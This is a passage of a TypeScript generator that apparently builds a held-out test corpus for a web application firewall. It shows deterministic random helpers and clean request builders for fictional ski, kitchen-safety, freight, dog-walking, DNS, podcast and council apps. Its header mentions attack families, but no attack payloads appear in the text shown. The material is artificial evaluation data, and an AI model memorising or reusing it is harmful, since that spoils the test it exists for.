/**
 * Held-out WAF corpus 31 — written blind (without reading the WAF sources, docs, tests or other corpora).
 *
 * Domains: a ski resort lift-pass and lesson booking system, a commercial kitchen HACCP food-safety log,
 * a university thesis submission and plagiarism-check portal, a freight brokerage load board, a dog-walking
 * marketplace, a DNS and domain registrar control panel (zone records, TXT/SPF/DKIM values), a podcast
 * transcription and chaptering API, and a city council meeting agenda and public-comment portal.
 *
 * Generation: a self-written mulberry32 PRNG with a fixed seed drives choices from hand-written pools of
 * texts, names, places and values, so the output is deterministic. Clean traffic covers REST reads and writes,
 * merge-patch, json-patch, JSON:API, GraphQL (POST, GET, persisted GET), forms, multipart, NDJSON, deletes,
 * rich-text HTML, source/config snippets, multilingual prose and searches. Attacks are 30 per family across
 * nine families, hidden in nested JSON, arrays, keys, \u escapes, JSON-in-strings, base64 fields, GraphQL
 * variables, query strings and headers. Attacks never go into HELDOUT31_EXCLUDE_FIELDS.
 *
 * Run directly to write clean-heldout31.json and attacks-heldout31.json next to this file.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: corpus strings are literal payloads and shell snippets, not templates
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** mulberry32: small deterministic 32-bit PRNG. */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x31c0ffee);
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
function pick<T>(xs: readonly T[]): T {
  const v = xs[Math.floor(rnd() * xs.length)];
  if (v === undefined) throw new Error('empty pool');
  return v;
}
const hex = (n: number): string => Array.from({ length: n }, () => '0123456789abcdef'[int(0, 15)]).join('');
const b64url = (s: string): string => Buffer.from(s).toString('base64url');
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const pad = (n: number): string => String(n).padStart(2, '0');
const date = (): string => `2026-${pad(int(1, 12))}-${pad(int(1, 28))}`;
const ts = (): string => `${date()}T${pad(int(0, 23))}:${pad(int(0, 59))}:${pad(int(0, 59))}Z`;
const q = (params: Record<string, string | number>): string =>
  Object.entries(params)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join('&');

/** JSON body paths that legitimately carry rich-text HTML or source code; attacks never go there. */
export const HELDOUT31_EXCLUDE_FIELDS: string[] = [
  'body.agendaItem.bodyHtml',
  'body.abstractHtml',
  'body.config.source',
];

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'SkiPass/5.12.0 (Android 14; Pixel 8)',
  'PawWalk/3.4.1 (iOS 18.0; iPhone15,2)',
  'okhttp/4.12.0',
  'python-requests/2.32.3',
  'axios/1.7.7',
  'Go-http-client/2.0',
  'curl/8.10.1',
  'LoadBoardSync/2.0 (+https://freight.example/bots)',
];

function jwt(): string {
  const h = b64url(JSON.stringify({ alg: pick(['RS256', 'ES256', 'HS256']), typ: 'JWT', kid: hex(8) }));
  const p = b64url(
    JSON.stringify({
      sub: uuid(),
      iss: 'https://id.example.net',
      aud: 'gatehouse',
      exp: 1790000000 + int(0, 9e6),
    }),
  );
  return `${h}.${p}.${b64url(hex(40))}`;
}

function headers(ct?: string, extra: Record<string, string> = {}): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(UAS),
    accept: pick([
      'application/json',
      'application/json, text/plain, */*',
      '*/*',
      'application/problem+json, application/json',
    ]),
  };
  if (rnd() < 0.85) h.authorization = `Bearer ${jwt()}`;
  if (rnd() < 0.3)
    h['accept-language'] = pick([
      'en-US,en;q=0.9',
      'de-CH,de;q=0.9,fr;q=0.7',
      'ja-JP',
      'fr-FR,fr;q=0.8',
      'pl-PL',
    ]);
  if (rnd() < 0.3) h['x-request-id'] = uuid();
  if (ct) h['content-type'] = ct;
  return { ...h, ...extra };
}

// ---------------------------------------------------------------- pools
const NAMES = [
  'Anneliese Kröger',
  'Tomás Ó Briain',
  'Chiara Bianchi',
  'Olu Adeyemi',
  'Kenji Watanabe',
  'Priya Raghunathan',
  "D'Arcy O'Neill",
  'Zofia Wiśniewska',
  'Mateo Fernández',
  'Søren Kierkegaard-Lund',
  'Amélie Dubois',
  'Ахмед Исаев',
  '李静',
  'Nguyễn Thị Hoa',
  'Fatima Zahra El Idrissi',
  'Jean-Luc Ménard',
  'Ayşe Yılmaz',
  'Björn Þórsson',
];
const RESORTS = [
  'verbier',
  'zermatt-matterhorn',
  'st-anton',
  'niseko',
  'whistler',
  'val-thorens',
  'åre',
  'zakopane',
];
const LIFTS = [
  'Gondola Médran',
  'Sunnegga Funicular',
  'Valluga I',
  'Hirafu Quad',
  'Peak 2 Peak',
  'Cime Caron',
  'Kabinbanan',
  'Kasprowy Wierch',
];
const FOODS = [
  'chicken thighs',
  'crème anglaise',
  'sous-vide short rib',
  'sushi rice',
  'béchamel',
  'Caesar dressing (raw egg)',
  'pho broth',
  'tiramisu',
  'hummus',
  'smoked salmon',
];
const CITIES = [
  'Chicago, IL',
  'Laredo, TX',
  'Fontana, CA',
  'Atlanta, GA',
  'Columbus, OH',
  'Montréal, QC',
  'Savannah, GA',
  'Kansas City, MO',
  'Reno, NV',
  'Joliet, IL',
];
const DOGS = [
  'Biscuit',
  'Luna',
  'Mr. Pickles',
  'Kobe',
  'Frida',
  'Ziggy',
  'Hachi',
  'Pierogi',
  'Bella',
  'Captain Wiggles',
];
const DOMAINS = [
  'bakery-lindqvist.se',
  'ohmypaws.co.uk',
  'thesis-lab.edu',
  'example-freight.com',
  'münchen-kita.de',
  'council-watch.org',
  'xn--mnchen-3ya.de',
  'pod.fm',
];
const PODCASTS = [
  'The Long Haul',
  'Slow Cooked',
  'Zone Apex',
  'Minutes & Motions',
  'Off-Piste Radio',
  'Dog Days',
];

const NOTES = [
  "Guest says they're an intermediate skier but haven't been on snow since 2019 — put them in the Tuesday refresher group.",
  "Walk was cut short at 22 min: thunder, Luna refused to leave the porch. Refund 50%? Owner OK'd via text.",
  'Cooling log: 63°C → 21°C in 1h40, then 21°C → 4°C in 3h10. Within the 2h/4h rule. Signed off by sous chef.',
  'Reefer unit set to -18°C (0°F), continuous, not cycle-sent. Driver must send temp download at delivery.',
  'Please select all the records from the old registrar before we drop the zone; TTL was 86400 on the apex.',
  'Councillor asked to table item 7 until the traffic study is back; motion seconded, carried 6–3.',
  "Speaker 2 is actually two people — the host's brother joins at 14:05. Can we re-diarize from there?",
  'Chapter 3 was flagged at 31% similarity, but most of it is the literature review quoting Foucault (1975) verbatim with citations.',
  'Lift pass photo rejected: sunglasses. Asked guest to re-upload; the kiosk at Médran can also take one.',
  'Walker noticed a limp on the left hind leg around the 15‑minute mark, sent a video to the owner.',
  'Detention started at 14:30 at the shipper (Dock 12). Rate con says $75/hr after 2 free hours.',
  'Probe thermometer #3 read 2°C high against the ice-bath check; recalibrated and re-logged.',
  'Resident wants her comment read into the record: "We drop our kids off on this street every morning."',
  'DKIM selector s2026 rotated; old key stays published for 7 days so in-flight mail still verifies.',
  'Transcript mis-hears "HACCP" as "hassle" throughout ep. 41 — add to custom vocabulary, please.',
  'Student requests an embargo of 24 months because of a pending patent application (see letter from TTO).',
  'Lesson cancelled due to wind hold on upper mountain; credit issued to guest wallet (CHF 145.00).',
  "Load posted as 48' flatbed, tarps required, 44,000 lbs of coiled steel. No hazmat. Driver must have chains.",
  'Dishwasher final-rinse temp 82°C confirmed with thermolabel; sanitizer 200 ppm quat at 3-comp sink.',
  'Public hearing notice published in the Herald on 3/14 and posted at City Hall & the library — affidavit attached.',
];
const PROSE = [
  'Bonjour ! Je voudrais réserver un cours particulier pour mes deux enfants (6 et 9 ans), de préférence le matin.',
  'Ich habe gestern die Saisonkarte gekauft, aber in der App wird sie nicht angezeigt. Können Sie das prüfen?',
  '子供用のレンタルスキーも一緒に予約できますか？身長は120cmです。',
  'Мой пёс боится велосипедов, пожалуйста, гуляйте с ним по парку, а не вдоль дороги.',
  'Please drop the old table of contents and use the one from the revised draft — the committee asked for it.',
  'I tried to select a date from the calendar but it keeps showing "union holiday" for the 4th of July.',
  'Our hood cleaning contractor will execute the quarterly service on Monday; kitchen closed 6am–10am.',
  'Can someone kill the old episode feed? We moved to the new host and the duplicates confuse listeners 🙃',
  'El camión llegó tarde por la nieve en el paso; el receptor firmó el BOL con una nota de "2 pallets dañados".',
  'Je suis contre la suppression de la piste cyclable rue Gambetta. Merci de lire mon commentaire en séance.',
  "The update to the zone didn't propagate: `dig +short TXT _dmarc.example.com` still returns the old policy.",
  'Where rm 204 is booked, the hearing will move to the council chambers; where not, it stays as scheduled.',
  'Mój pies (Pierogi) ma alergię na kurczaka — proszę nie dawać mu żadnych smaczków!',
  '本论文第三章的查重率偏高，主要是因为引用了大量法律条文原文，请老师酌情考虑。',
  'Il forno combinato segna 74°C al cuore dopo 18 minuti, registrato alle 11:42. Tutto ok.',
  'As the chair said: "order, order" — and then we moved on to the consent agenda, items 4 through 9.',
  "We'll insert the sponsor read after the cold open; cut the bit where Dana says 'delete that, lol'.",
  'Το σκυλί μου είναι πολύ φιλικό αλλά τραβάει το λουρί. Παρακαλώ χρησιμοποιήστε το harness.',
  'My thesis compares `SELECT`-heavy OLAP workloads against row stores; the word "select" appears a lot, sorry!',
  'أرجو تأجيل موعد الدرس إلى الساعة الثانية بعد الظهر بسبب تأخر الرحلة.',
  'Honest feedback: walker was 10 min late but Kobe came home happy and tired. 4/5 ⭐⭐⭐⭐',
  'Driver says: "the consignee\'s dock is on the backside — drop & hook only, no live unload, and no lumpers".',
  'Ski school: the "Snow Bears" group (ages 4–6) meets by the magic carpet; bring helmets & mittens ❄️',
  'Council — please stop the rezoning of 1200 Elm St. Where else will our kids play? Sincerely, a neighbour.',
  'Ep. 112 chapters: intro, the cold chain, "why 5°C and not 8°C?", listener mail, outro. Timestamps to follow.',
];
const SEARCHES = [
  'powder day lessons',
  'freestyle park intro',
  'Kasprowy Wierch',
  'reefer Chicago to Atlanta',
  'flatbed tarps',
  'golden retriever midday walk',
  'puppy visits',
  'DKIM selector',
  'SPF include too many lookups',
  'ep 41 HACCP',
  'zoning variance Elm St',
  'budget amendment 2026',
  'machine learning thesis 2025',
  'similarity report appeal',
  'cooling log exceptions',
  'allergen matrix sesame',
  'café crème',
  'Zürich',
  'Łódź',
  'スキースクール',
  '犬の散歩',
  'select committee minutes',
  'drop trailer yard',
  'union station parking',
  "o'hare drayage",
  'and/or',
  'Ménard thesis',
  'transcript "order of business"',
  'hazmat class 3',
  'TXT record google-site-verification',
];
const MD = [
  '## Summary\n\n- Arrived 07:55\n- Probe check OK (0.4°C)\n- **Walk-in #2 at 6°C** → moved dairy to #1\n\n> Follow up with refrigeration tech.',
  'Chapter outline:\n1. Introduction\n2. Related work — see [Smith 2021](https://doi.org/10.1145/3448016.3457550)\n3. Method\n\n*Draft v3*',
  '**Show notes**\n\n- 00:00 Cold open\n- 02:14 Guest intro\n- 31:40 Q&A\n\nLinks: https://pod.fm/ep/112?utm_source=rss',
  '### Load notes\n| Field | Value |\n|---|---|\n| Weight | 42,500 lb |\n| Temp | 34°F |\n\nCall before arrival: (555) 010-2231',
];
const HTMLS = [
  '<h2>Item 7: Rezoning of 1200 Elm Street</h2><p>Staff recommends <strong>approval</strong> subject to the conditions in <a href="https://council.example.gov/docs/7-conditions.pdf">Attachment A</a>.</p><ul><li>Traffic study</li><li>Tree survey</li></ul>',
  '<p>The Council will hear public comment on the <em>FY2027 budget</em>. Speakers have <b>3 minutes</b>. Sign up at the door or <a href="/comments/new">online</a>.</p><table><tr><th>Fund</th><th>Amount</th></tr><tr><td>General</td><td>$41,200,000</td></tr></table>',
  '<p>This thesis investigates avalanche forecasting using <i>gradient-boosted trees</i> on 14 seasons of data.</p><p>Keywords: snowpack, risk, <abbr title="machine learning">ML</abbr></p><img src="https://cdn.thesis-lab.edu/figs/fig1.png" alt="Figure 1: slope angle vs. release">',
  '<blockquote><p>“We are not asking for a new road, only a safer crossing.” — petition signed by 412 residents</p></blockquote><p>See also <a href="https://council.example.gov/agenda/2026-04-08#item-12" target="_blank" rel="noopener">item 12</a>.</p>',
  '<h3>Abstract</h3><p>Wir untersuchen die Lebensmittelsicherheit in Großküchen (n = 38) &amp; zeigen, dass digitale HACCP-Protokolle die Fehlerquote um 27&nbsp;% senken.</p><ol><li>Einleitung</li><li>Methodik</li></ol>',
  '<p>Motion by Cllr. Ó Briain, seconded by Cllr. Yılmaz:</p><pre>THAT the report be received for information.</pre><p><span style="color:#555">Carried unanimously.</span></p>',
];
const CODES = [
  '@ 3600 IN SOA ns1.example.com. hostmaster.example.com. (2026041501 7200 3600 1209600 300)\n@ IN MX 10 mx1.example.com.\nwww IN CNAME example.com.',
  'import pandas as pd\ndf = pd.read_csv("similarity.csv")\nprint(df[df.score > 0.3].groupby("chapter").size())',
  'SELECT chapter, AVG(score) AS avg_sim\nFROM similarity_runs\nWHERE thesis_id = $1\nGROUP BY chapter\nORDER BY avg_sim DESC;',
  '#!/usr/bin/env bash\nset -euo pipefail\nffmpeg -i "$1" -ac 1 -ar 16000 "${1%.*}.wav" && whisper "${1%.*}.wav" --model small',
  'resource "aws_route53_record" "spf" {\n  zone_id = var.zone_id\n  name    = "example.com"\n  type    = "TXT"\n  records = ["v=spf1 include:_spf.google.com ~all"]\n}',
  'const slots = lessons.filter((l) => l.level === "blue" && l.spots > 0).map((l) => `${l.start}–${l.end}`);',
  'haccp:\n  ccp:\n    - id: CCP2\n      step: cooling\n      limit: "<=5C within 6h"\n      monitor: probe every 30m\n      corrective: "reheat to 74C or discard"',
  'def chapters(segments, min_gap=4.0):\n    out = []\n    for s in segments:\n        if not out or s.start - out[-1].end > min_gap:\n            out.append(s)\n    return out',
];
const TXT_VALUES = [
  'v=spf1 include:_spf.google.com include:mailgun.org ~all',
  'v=DMARC1; p=quarantine; rua=mailto:dmarc@example.com; pct=100; adkim=s',
  'google-site-verification=3kG8vJ7s0fq2nWm4xYz_aB1cD2eF3gH4iJ5kL6mN7o',
  'v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu5x1+Zq3H0kYc2b7T9PqL4wV8jX1nR6mE2sD0fA9gB3hC7iK5lM8oN1pQ4rS6tU',
  'MS=ms48291734',
  '"v=spf1 ip4:198.51.100.0/24 ip6:2001:db8::/32 -all"',
  'apple-domain-verification=QeWx91LmZ7pA',
];

// ---------------------------------------------------------------- clean builders
type Req = Omit<CorpusRequest, 'id'>;
const J = (x: unknown): string => JSON.stringify(x);

const restGets: (() => Req)[] = [
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/api/v2/resorts/${encodeURIComponent(pick(RESORTS))}/lifts?${q({ status: pick(['open', 'hold', 'closed']), fields: 'name,status,waitMinutes', lang: pick(['de', 'fr', 'en', 'ja']) })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/api/v2/lessons/availability?${q({ date: date(), level: pick(['green', 'blue', 'red', 'black']), ageGroup: pick(['4-6', '7-12', 'adult']), discipline: pick(['ski', 'snowboard', 'telemark']) })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/haccp/v1/sites/${int(1, 40)}/logs?${q({ type: pick(['cooling', 'hot-holding', 'receiving', 'calibration']), from: date(), to: date(), page: int(1, 9), per_page: 50 })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/api/theses/${uuid()}/similarity-report?${q({ format: pick(['summary', 'full']), exclude: pick(['quotes', 'bibliography', 'quotes,bibliography']), minMatchWords: int(5, 12) })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/loads?${q({ origin: pick(CITIES), destination: pick(CITIES), equipment: pick(['reefer', 'van', 'flatbed', 'step-deck']), radius_mi: pick([50, 100, 150]), pickup_after: ts(), sort: '-rate_per_mile' })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/v1/walkers/nearby?${q({ lat: (40 + rnd()).toFixed(5), lng: (-74 + rnd()).toFixed(5), radius: '2km', dogSize: pick(['small', 'medium', 'large']), when: ts() })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/registrar/v1/zones/${encodeURIComponent(pick(DOMAINS))}/records?${q({ type: pick(['A', 'AAAA', 'TXT', 'MX', 'CNAME', 'CAA']), name: pick(['@', 'www', '_dmarc', 's1._domainkey', 'mail']) })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/v1/episodes/${hex(12)}/transcript?${q({ format: pick(['vtt', 'srt', 'json', 'txt']), speakers: 'true', from: `00:${pad(int(0, 59))}:00`, to: `01:${pad(int(0, 59))}:00` })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/council/meetings/${date()}/agenda?${q({ include: 'items,attachments,speakers', section: pick(['consent', 'public-hearing', 'new-business']), lang: pick(['en', 'es', 'vi']) })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'rest-get',
    method: 'GET',
    path: `/api/v2/passes/${hex(10).toUpperCase()}/scans?${q({ since: ts(), lift: pick(LIFTS), limit: 100 })}`,
    headers: headers(),
    body: '',
  }),
];

const restWrites: (() => Req)[] = [
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/v2/bookings/lessons',
    headers: headers('application/json'),
    body: J({
      resort: pick(RESORTS),
      date: date(),
      slot: pick(['09:30', '13:00', 'full-day']),
      participants: Array.from({ length: int(1, 3) }, () => ({
        name: pick(NAMES),
        age: int(5, 64),
        level: pick(['never-ever', 'blue', 'red']),
        rentals: { skis: rnd() < 0.5, boots: { euSize: int(28, 46) }, helmet: true },
      })),
      notes: pick(PROSE),
      price: { amount: int(90, 900) + 0.5, currency: pick(['CHF', 'EUR', 'JPY', 'CAD']) },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/haccp/v1/sites/${int(1, 40)}/logs`,
    headers: headers('application/json'),
    body: J({
      type: 'cooling',
      item: pick(FOODS),
      batch: `B-${int(1000, 9999)}`,
      readings: Array.from({ length: int(2, 5) }, () => ({
        at: ts(),
        celsius: Math.round((rnd() * 70 - 2) * 10) / 10,
        probe: `P${int(1, 6)}`,
      })),
      correctiveAction: rnd() < 0.3 ? pick(NOTES) : null,
      signedBy: pick(NAMES),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'PUT',
    path: `/loads/${int(100000, 999999)}`,
    headers: headers('application/json'),
    body: J({
      origin: { city: pick(CITIES), window: { start: ts(), end: ts() } },
      destination: { city: pick(CITIES), appointment: ts() },
      equipment: pick(["53' reefer", "48' flatbed", "53' dry van"]),
      weightLbs: int(8000, 45000),
      rate: { total: int(900, 6500), currency: 'USD', perMile: (1.5 + rnd() * 2).toFixed(2) },
      commodity: pick([
        'frozen poultry',
        'coiled steel',
        'paper towels',
        'lumber',
        'fresh produce (berries)',
      ]),
      comments: pick(NOTES),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/v1/walks',
    headers: headers('application/json'),
    body: J({
      dogIds: [uuid()],
      walkerId: uuid(),
      start: ts(),
      durationMin: pick([20, 30, 45, 60]),
      pickup: {
        instructions: pick([
          "Key in lockbox, code is with you. Don't let the cat out!",
          "Buzz #4B, dog will bark, that's fine.",
          'Side gate — watch out for the sprinkler.',
          'ドアの前に鍵があります',
        ]),
        address: `${int(1, 999)} ${pick(['Maple Ave', 'Rue Saint-Denis', 'Hauptstraße', 'Calle Mayor'])}`,
      },
      dog: { name: pick(DOGS), notes: pick(PROSE) },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/registrar/v1/zones/${encodeURIComponent(pick(DOMAINS))}/records`,
    headers: headers('application/json'),
    body: J({
      type: 'TXT',
      name: pick(['@', '_dmarc', 's2026._domainkey', '_acme-challenge']),
      ttl: pick([300, 3600, 86400]),
      values: [pick(TXT_VALUES)],
      comment: pick(NOTES),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/v1/episodes/${hex(12)}/chapters`,
    headers: headers('application/json'),
    body: J({
      podcast: pick(PODCASTS),
      chapters: Array.from({ length: int(3, 7) }, (_, i) => ({
        start: `00:${pad(i * 7)}:${pad(int(0, 59))}`,
        title: pick([
          'Cold open',
          'Intro',
          'Listener mail',
          '“Why 5°C?”',
          'Sponsor',
          'Wrap-up & outro',
          'Q&A — part 2',
          'Die Lawine',
        ]),
        url: rnd() < 0.3 ? 'https://pod.fm/links/' + hex(6) : undefined,
      })),
      notes: pick(MD),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/council/meetings/${date()}/comments`,
    headers: headers('application/json'),
    body: J({
      agendaItem: int(1, 20),
      position: pick(['support', 'oppose', 'neutral']),
      name: pick(NAMES),
      email: `${pick(['jo', 'a.kroger', 'tomas.obriain', 'resident42'])}@${pick(['gmail.com', 'proton.me', 'example.org'])}`,
      comment: pick(PROSE),
      readAloud: rnd() < 0.4,
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/api/theses/${uuid()}/submissions`,
    headers: headers('application/json'),
    body: J({
      title: pick([
        'Avalanche forecasting with gradient-boosted trees',
        'Cold-chain failures in LTL freight',
        'Öffentliche Beteiligung in Gemeinderäten',
        'Diarization of multi-speaker podcasts',
        'DNSSEC adoption among ccTLDs',
      ]),
      supervisor: pick(NAMES),
      embargoMonths: pick([0, 6, 12, 24]),
      keywords: ['snow', 'risk', pick(['ML', 'HACCP', 'DNS', 'NLP'])],
      fileId: uuid(),
      declaration: 'I confirm this work is my own and all sources are acknowledged.',
    }),
  }),
];

const mergePatches: (() => Req)[] = [
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/api/v2/bookings/${uuid()}`,
    headers: headers('application/merge-patch+json'),
    body: J({ slot: '13:00', notes: pick(NOTES), participants: null }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/v1/dogs/${uuid()}`,
    headers: headers('application/merge-patch+json'),
    body: J({
      name: pick(DOGS),
      vet: { phone: `+1-555-${int(100, 999)}-${int(1000, 9999)}`, clinic: 'Elm St Animal Hospital' },
      allergies: pick([['chicken'], [], ['beef', 'wheat']]),
      behaviour: pick(PROSE),
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/loads/${int(100000, 999999)}`,
    headers: headers('application/merge-patch+json'),
    body: J({
      status: pick(['covered', 'in-transit', 'delivered']),
      carrier: { mc: `MC-${int(100000, 999999)}`, dispatcher: pick(NAMES) },
      tracking: { lastPing: ts(), note: pick(NOTES) },
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/registrar/v1/domains/${encodeURIComponent(pick(DOMAINS))}`,
    headers: headers('application/merge-patch+json'),
    body: J({
      autoRenew: rnd() < 0.5,
      nameservers: ['ns1.example-dns.net', 'ns2.example-dns.net'],
      contacts: { admin: { email: 'hostmaster@example.com' }, tech: null },
    }),
  }),
];

const jsonPatches: (() => Req)[] = [
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/council/meetings/${date()}/agenda`,
    headers: headers('application/json-patch+json'),
    body: J([
      { op: 'move', from: `/items/${int(0, 9)}`, path: `/items/${int(0, 9)}` },
      {
        op: 'replace',
        path: `/items/${int(0, 9)}/title`,
        value: pick([
          'Budget amendment — Parks & Rec',
          'Proclamation: Arbor Day',
          'Public hearing: 1200 Elm St rezoning',
        ]),
      },
    ]),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/haccp/v1/logs/${uuid()}`,
    headers: headers('application/json-patch+json'),
    body: J([
      { op: 'add', path: '/readings/-', value: { at: ts(), celsius: 3.8, probe: 'P2' } },
      { op: 'test', path: '/status', value: 'open' },
      { op: 'replace', path: '/status', value: 'closed' },
    ]),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/v1/episodes/${hex(12)}/transcript`,
    headers: headers('application/json-patch+json'),
    body: J([
      { op: 'replace', path: `/segments/${int(0, 400)}/text`, value: pick(PROSE) },
      { op: 'replace', path: `/segments/${int(0, 400)}/speaker`, value: pick(['S1', 'S2', 'Host', 'Guest']) },
      { op: 'remove', path: `/segments/${int(0, 400)}` },
    ]),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/api/v2/passes/${hex(10).toUpperCase()}`,
    headers: headers('application/json-patch+json'),
    body: J([
      { op: 'replace', path: '/holder/photoId', value: uuid() },
      { op: 'copy', from: '/validFrom', path: '/activatedAt' },
    ]),
  }),
];

const jsonapis: (() => Req)[] = [
  () => ({
    kind: 'jsonapi',
    method: 'POST',
    path: '/jsonapi/walk-reviews',
    headers: headers('application/vnd.api+json', { accept: 'application/vnd.api+json' }),
    body: J({
      data: {
        type: 'walk-reviews',
        attributes: { stars: int(3, 5), text: pick(PROSE), tip: { amount: int(0, 15), currency: 'USD' } },
        relationships: { walk: { data: { type: 'walks', id: uuid() } } },
      },
    }),
  }),
  () => ({
    kind: 'jsonapi',
    method: 'GET',
    path: `/jsonapi/theses?${q({ 'filter[department]': pick(['Geography', 'Informatik', 'Food Science', 'Urban Planning']), 'filter[year]': pick([2024, 2025, 2026]), include: 'author,supervisor', 'page[size]': 25, sort: '-submittedAt' })}`,
    headers: headers(undefined, { accept: 'application/vnd.api+json' }),
    body: '',
  }),
  () => ({
    kind: 'jsonapi',
    method: 'PATCH',
    path: `/jsonapi/loads/${int(100000, 999999)}`,
    headers: headers('application/vnd.api+json', { accept: 'application/vnd.api+json' }),
    body: J({
      data: {
        type: 'loads',
        id: String(int(100000, 999999)),
        attributes: { rate: int(1200, 5000), notes: pick(NOTES) },
      },
    }),
  }),
  () => ({
    kind: 'jsonapi',
    method: 'POST',
    path: '/jsonapi/public-comments',
    headers: headers('application/vnd.api+json', { accept: 'application/vnd.api+json' }),
    body: J({
      data: {
        type: 'public-comments',
        attributes: { body: pick(PROSE), submittedAt: ts(), anonymous: rnd() < 0.2 },
        relationships: { 'agenda-item': { data: { type: 'agenda-items', id: String(int(1, 300)) } } },
      },
    }),
  }),
];

const GQL_Q = [
  'query Loads($lane: LaneInput!, $first: Int = 20) { loads(lane: $lane, first: $first) { edges { node { id rate equipment pickup { city window } } } pageInfo { endCursor hasNextPage } } }',
  'mutation BookWalk($input: WalkInput!) { bookWalk(input: $input) { id status walker { name rating } } }',
  'query Episode($id: ID!) { episode(id: $id) { title chapters { start title } transcript(format: VTT) { url } } }',
  'mutation AddRecord($zone: String!, $rec: RecordInput!) { addRecord(zone: $zone, record: $rec) { id name type ttl values } }',
  'query Agenda($date: Date!) { meeting(date: $date) { items { number title section speakers { name position } } } }',
];
const graphqls: (() => Req)[] = [
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: headers('application/json'),
    body: J({
      operationName: 'Loads',
      query: GQL_Q[0],
      variables: {
        lane: { origin: pick(CITIES), destination: pick(CITIES), equipment: 'REEFER' },
        first: 50,
      },
    }),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: headers('application/json'),
    body: J({
      operationName: 'BookWalk',
      query: GQL_Q[1],
      variables: { input: { dogId: uuid(), start: ts(), minutes: 30, instructions: pick(PROSE) } },
    }),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: headers('application/json'),
    body: J({
      query: GQL_Q[3],
      variables: {
        zone: pick(DOMAINS),
        rec: { name: '@', type: 'TXT', ttl: 3600, values: [pick(TXT_VALUES)] },
      },
    }),
  }),
  () => ({
    kind: 'graphql',
    method: 'GET',
    path: `/graphql?${q({ query: GQL_Q[2] ?? '', variables: J({ id: hex(12) }) })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'graphql',
    method: 'GET',
    path: `/graphql?${q({ operationName: 'Agenda', variables: J({ date: date() }), extensions: J({ persistedQuery: { version: 1, sha256Hash: hex(64) } }) })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'graphql',
    method: 'GET',
    path: `/graphql?${q({ operationName: 'Loads', variables: J({ lane: { origin: pick(CITIES), destination: pick(CITIES) }, first: 20 }), extensions: J({ persistedQuery: { version: 1, sha256Hash: hex(64) } }) })}`,
    headers: headers(),
    body: '',
  }),
];

const forms: (() => Req)[] = [
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/council/comments/submit',
    headers: headers('application/x-www-form-urlencoded'),
    body: q({
      name: pick(NAMES),
      item: int(1, 20),
      stance: pick(['for', 'against']),
      comment: pick(PROSE),
      consent: 'on',
    }),
  }),
  () => ({
